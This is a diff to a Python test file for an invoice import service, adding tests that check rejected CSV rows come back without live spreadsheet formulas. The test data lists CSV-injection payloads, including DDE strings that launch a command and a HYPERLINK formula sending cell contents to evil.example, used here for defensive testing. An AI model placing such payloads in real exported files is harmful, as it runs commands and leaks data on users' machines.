@@ -6,12 +6,15 @@ from datetime import date
 from pathlib import Path
 
 import openpyxl
+import pytest
 from sqlalchemy import select
 
 from data.invoices import Invoice
 from data.people import Entity
-from services.imports import runs
-from services.imports.model import File, ImportKind, Options
+from services.imports import refusals, rejects, runs, tables
+from services.imports.model import File, ImportKind, Options, Outcome, Problem, Result
+from services.imports.table_model import Table
+from services.wording import Wording
 from tests.services.imported import counts, results, run
 from tests.services.test_imports_command import command
 from tests.services.test_imports_tables import workbook
@@ -93,3 +96,30 @@ def test_the_command_line_takes_good_rows_and_writes_the_others(sqlite_house, tm
     assert counts(sqlite_house, Entity) == [before[0] + 1]
     assert "1 refused rows are in" in capsys.readouterr().err
     assert rejects.read_text("utf-8-sig").splitlines() == ["Code,Name,Why it was refused", "C2,,Name: This is required."]
+
+
+@pytest.mark.security("R70")
+@pytest.mark.parametrize("text", [
+    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1-1+cmd", "-A1", "+A1",
+    "=HYPERLINK(\"https://evil.example?\"&A1)", "-", "+", "@x"])
+@pytest.mark.parametrize("shape", ["{}", "'{}"])
+def test_what_is_handed_back_runs_in_no_spreadsheet(text: str, shape: str) -> None:
+    """A guarded cell is read without its guard: handed back without, it would be a formula that it was not before."""
+    bare = shape.format(text)
+    given = '"' + bare.replace('"', '""') + '"'
+    table = tables.read_csv(f"{given},Name\n{given},x\n".encode())
+    assert isinstance(table, Table)
+    assert (table.headers[0], table.rows[0].cells[0]) == (" ".join(text.split()), text)
+    refused = Outcome("a.csv", Result.REFUSED, "x", 2, problems=(Problem(refusals.Blank(), 2, table.headers[0]),))
+    back = rejects.handed_back("a.csv", table, [refused], Wording("en"))
+    assert back is not None
+    for line in csv.reader(io.StringIO(back.content.decode("utf-8-sig"))):
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line), line
+    again = tables.read_csv(back.content)
+    assert isinstance(again, Table)
+    assert (again.headers[:2], again.rows[0].cells[:2]) == (table.headers, table.rows[0].cells)
+
+
+@pytest.mark.parametrize("text", ["-5.00", "+30 210 7654321", "-1.234,56", "12", "", "a=b", "O'Neil"])
+def test_numbers_and_names_stay_as_they_are(text: str) -> None:
+    assert rejects.guarded(text) == text
